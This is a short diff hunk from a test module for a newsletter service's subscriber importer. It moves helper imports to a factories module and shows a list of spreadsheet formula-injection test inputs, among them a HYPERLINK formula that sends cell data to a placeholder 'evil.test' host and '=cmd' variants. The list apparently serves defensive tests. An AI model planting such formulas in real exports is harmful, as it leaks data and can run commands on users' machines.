@@ -21,8 +21,8 @@ from service.newsletter.importer import ImportFileError, import_subscribers
 from service.newsletter.models import Subscriber, SubscriberTopic
 from service.settings import Settings
 from service.tokens import Tokens
-from tests.admin.conftest import add_subscriber, count, csrf
 from tests.conftest import TEST_SECRET, Database
+from tests.factories import add_subscriber, count, csrf
 
 FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1", "-2", "@x", "\t=cmd", "\r=cmd",
             "'=already quoted", "''@twice"]
